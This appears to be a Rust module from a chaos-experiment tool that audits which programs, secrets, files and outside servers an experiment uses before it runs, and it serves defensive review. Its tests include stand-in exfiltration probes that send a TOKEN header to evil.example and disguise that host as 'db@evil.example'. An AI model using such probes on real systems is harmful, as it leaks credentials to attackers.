//! What an experiment starts, reads and reaches beyond what is made for it: to be looked at before somebody else's file is run.

use std::fmt;

use super::{
    Action, Experiment, Probe, Program, command,
    probe::{Asks, HeaderValue, Trust},
    target,
};
use crate::{remark::Remark, span::Span};

/// Everything that an experiment starts, reads or reaches and that is not made for the run and gone with it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Outside {
    /// The programs that it starts.
    pub programs: Vec<Started>,
    /// The environment variables whose values it uses.
    pub variables: Vec<Variable>,
    /// The files that it reads while it runs.
    pub files: Vec<ReadFile>,
    /// The servers that it asks and that are not part of its lab.
    pub servers: Vec<Asked>,
}

/// A program that an experiment starts.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Started {
    /// The program and its arguments.
    pub line: String,
    /// What starts it.
    pub by: Starter,
    /// Where it was written.
    pub span: Span,
}

/// What starts a program.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Starter {
    /// A host of the lab.
    Host {
        /// Its name.
        name: String,
        /// Whether it keeps the rights of whoever runs the experiment.
        as_root: bool,
    },
    /// A fault or a change, on hosts of the lab.
    Action {
        /// Its name.
        name: String,
        /// Whether it keeps the rights of whoever runs the experiment.
        as_root: bool,
    },
    /// A probe, with the rights and the environment of whoever runs the experiment.
    Probe {
        /// Its name.
        name: String,
    },
}

/// An environment variable whose value is used.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Variable {
    /// Its name.
    pub name: String,
    /// Who gets to see its value, in words.
    pub shown_to: String,
}

/// A file that is read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ReadFile {
    /// Its path, as written.
    pub path: String,
    /// The probe that it is read for.
    pub probe: String,
}

/// A server outside of the lab.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Asked {
    /// Where it is, as written.
    pub server: String,
    /// The probe that asks.
    pub probe: String,
}

impl Outside {
    /// The heading under which explanations and plans list it.
    pub const HEADING: &str = "Programs, secrets, files and servers that it uses";

    /// Collects it from an experiment.
    pub fn of(experiment: &Experiment) -> Self {
        let mut outside = Outside::default();
        for host in experiment.lab().into_iter().flat_map(|lab| &lab.hosts) {
            for program in &host.programs {
                let by = |as_root| Starter::Host { name: host.name.value.clone(), as_root };
                outside.program(&program.value, by, program.span);
            }
        }
        let faults = experiment.faults.iter().map(|fault| (&fault.name, &fault.action, fault.span));
        let changes = experiment.changes.iter().map(|change| (&change.name, &change.action, change.span));
        for (name, action, span) in faults.chain(changes) {
            match action {
                Action::Program(program) => {
                    let by = |as_root| Starter::Action { name: name.value.clone(), as_root };
                    outside.program(program, by, span);
                }
                // What a harness's own injector does is the harness's matter.
                Action::Packets(_)
                | Action::Names(_)
                | Action::Objects(_)
                | Action::Processes(_)
                | Action::Custom(_) => {}
            }
        }
        for probe in &experiment.probes {
            outside.probe(experiment, probe);
        }
        outside
    }

    fn program(&mut self, program: &Program, by: impl FnOnce(bool) -> Starter, span: Span) {
        match program {
            Program::Command { argv, env, as_root, .. } => {
                let started = Started { line: command::line(argv), by: by(*as_root), span };
                self.variables.extend(env.iter().map(|name| Variable {
                    name: name.clone(),
                    shown_to: format!("`{}` {}", started.line, started.by),
                }));
                self.programs.push(started);
            }
            // The built-in servers read nothing and talk to the lab alone.
            Program::Http { .. } | Program::Gateway { .. } | Program::Dns => {}
        }
    }

    fn probe(&mut self, experiment: &Experiment, probe: &Probe) {
        let name = &probe.name.value;
        if let Trust::File(path) = &probe.trust {
            self.files.push(ReadFile { path: path.value.clone(), probe: name.clone() });
        }
        // What a harness's own prober asks is the harness's matter; which cluster is asked, the scope says.
        let server = probe.kind.asks().map(Asks::as_written);
        for (header, value) in probe.kind.headers() {
            if let HeaderValue::SecretEnv(variable) = value {
                let to = server.unwrap_or_default();
                let shown_to = format!("{to} by the probe {name}, as the header `{header}`");
                self.variables.push(Variable { name: variable.clone(), shown_to });
            }
        }
        if let Some(words) = probe.kind.command() {
            let by = Starter::Probe { name: name.clone() };
            self.programs.push(Started { line: command::line(words), by, span: probe.span });
        }
        if let Some(server) = server.filter(|server| !in_lab(experiment, server)) {
            self.servers.push(Asked { server: server.to_owned(), probe: name.clone() });
        }
    }

    /// Says each of it in a line, the most dangerous first.
    pub fn lines(&self) -> Vec<String> {
        let programs = self.programs.iter().map(|Started { line, by, .. }| {
            let rights = match by {
                Starter::Host { as_root: true, .. } | Starter::Action { as_root: true, .. } => "as root",
                Starter::Host { .. } | Starter::Action { .. } => "as an ordinary user",
                Starter::Probe { .. } => "with your rights and your environment",
            };
            format!("starts `{line}` {by}, {rights}")
        });
        let variables = self
            .variables
            .iter()
            .map(|Variable { name, shown_to }| format!("shows your variable `{name}` to {shown_to}"));
        let files =
            self.files.iter().map(|ReadFile { path, probe }| format!("reads `{path}` for the probe {probe}"));
        let servers =
            self.servers.iter().map(|Asked { server, probe }| format!("asks {server} for the probe {probe}"));
        programs.chain(variables).chain(files).chain(servers).collect()
    }
}

impl Started {
    /// Refuses it, for whoever has not allowed programs.
    pub fn refusal(&self) -> Remark {
        Remark::error(self.span, format!("`{}` {} is started only with your permission", self.line, self.by))
            .with_help("read the command, then allow it with `--allow-exec`")
    }
}

impl fmt::Display for Starter {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Starter::Host { name, .. } => write!(f, "on the lab's host {name}"),
            Starter::Action { name, .. } => write!(f, "on the lab's hosts of {name}"),
            Starter::Probe { name } => write!(f, "for the probe {name}"),
        }
    }
}

/// Returns whether a URL or an address leads to a host of the experiment's lab.
fn in_lab(experiment: &Experiment, server: &str) -> bool {
    let Some(lab) = experiment.lab() else { return false };
    let authority = server.split_once("://").map_or(server, |(_, rest)| rest);
    let authority = authority.split(['/', '?', '#']).next().unwrap_or_default();
    let authority = authority.rsplit_once('@').map_or(authority, |(_, rest)| rest);
    let host = match authority.strip_prefix('[') {
        Some(rest) => rest.split(']').next().unwrap_or_default(),
        None => authority.split(':').next().unwrap_or_default(),
    };
    let host = host.strip_suffix(".lab").unwrap_or(host);
    lab.hosts.iter().any(|declared| declared.name.value == host)
        || lab.names().iter().any(|name| target::glob(host, name))
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::model::{Change, Course, Fault, Host, Lab, ProbeKind, Ready, Scope, Selector};

    fn command(line: &str, env: &[&str], as_root: bool) -> Program {
        Program::Command {
            argv: line.split(' ').map(str::to_owned).collect(),
            ready: Ready::After(Duration::ZERO),
            env: env.iter().map(|name| (*name).to_owned()).collect(),
            as_root,
        }
    }

    fn probe(name: &str, kind: ProbeKind) -> Probe {
        let usual = crate::testing::experiment().probes.remove(0);
        Probe { name: name.into(), kind, ..usual }
    }

    fn http(url: &str, headers: &[(&str, HeaderValue)]) -> ProbeKind {
        let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), value.clone())).collect();
        ProbeKind::Http { method: "GET".into(), url: url.into(), headers, body: None }
    }

    fn in_a_lab(programs: Vec<Program>, probes: Vec<Probe>) -> Experiment {
        let host = |name: &str, copies, programs: Vec<Program>| Host {
            name: name.into(),
            copies,
            programs: programs.into_iter().map(Into::into).collect(),
        };
        let hosts = vec![host("db", None, programs), host("api", Some(2), Vec::new())];
        let scope = Scope::Lab(Lab { hosts, ..Lab::default() });
        let faults = Vec::new();
        Experiment { scope, probes, faults, ..crate::testing::experiment() }
    }

    #[test]
    fn programs_are_listed_with_their_rights() {
        let builtin = Program::Http { port: 80, work: Duration::ZERO, capacity: None, status: 200 };
        let programs = vec![
            builtin,
            Program::Dns,
            command("redis-server", &[], false),
            command("pg", &["PGDATA"], true),
        ];
        let words = vec!["psql".to_owned(), "-c".to_owned()];
        let exec = ProbeKind::Exec { words, scale: crate::model::probe::Scale::PLAIN };
        let mut experiment = in_a_lab(programs, vec![probe("depth", exec)]);
        let (on, span) = (Selector::Hosts("api".into()), Span::NONE);
        let newer = Action::Program(Box::new(command("nginx", &[], false)));
        experiment.changes.push(Change { name: "newer".into(), action: newer, on: on.clone(), span });
        let worse = Action::Program(Box::new(command("false", &[], false)));
        let course = Course::Steady;
        experiment.faults.push(Fault {
            name: "worse".into(),
            action: worse,
            on,
            course,
            proven_by: None,
            span,
        });
        let outside = Outside::of(&experiment);
        assert_eq!(
            outside.lines(),
            [
                "starts `redis-server` on the lab's host db, as an ordinary user",
                "starts `pg` on the lab's host db, as root",
                "starts `false` on the lab's hosts of worse, as an ordinary user",
                "starts `nginx` on the lab's hosts of newer, as an ordinary user",
                "starts `psql -c` for the probe depth, with your rights and your environment",
                "shows your variable `PGDATA` to `pg` on the lab's host db",
            ]
        );
        let refusal = outside.programs[1].refusal();
        assert_eq!(refusal.message, "`pg` on the lab's host db is started only with your permission");
    }

    #[test]
    fn what_is_sent_out_of_the_lab_is_listed() {
        let secret = HeaderValue::SecretEnv("TOKEN".into());
        let plain = HeaderValue::Plain("x".into());
        let tcp = |address: &str| ProbeKind::Tcp { address: address.into() };
        let probes = vec![
            probe("inside", http("http://api-2.lab:80/x", &[("accept", plain)])),
            probe("glob", tcp("api-*:80")),
            probe("copies", tcp("api:80")),
            probe("outside", http("https://evil.example/?q=db", &[("authorization", secret)])),
            probe("disguised", http("http://db@evil.example:80/", &[])),
            probe("six", tcp("[2001:db8::1]:443")),
        ];
        let outside = Outside::of(&in_a_lab(Vec::new(), probes));
        assert_eq!(
            outside.lines(),
            [
                "shows your variable `TOKEN` to https://evil.example/?q=db by the probe outside, as the header `authorization`",
                "asks https://evil.example/?q=db for the probe outside",
                "asks http://db@evil.example:80/ for the probe disguised",
                "asks [2001:db8::1]:443 for the probe six",
            ]
        );
    }

    #[test]
    fn on_a_machine_every_server_is_outside() {
        let mut trusting = probe("get", http("https://localhost/", &[]));
        trusting.trust = Trust::File("ca.pem".into());
        let experiment = Experiment { probes: vec![trusting], ..crate::testing::experiment() };
        let lines = Outside::of(&experiment).lines();
        assert_eq!(lines, ["reads `ca.pem` for the probe get", "asks https://localhost/ for the probe get"]);
    }
}
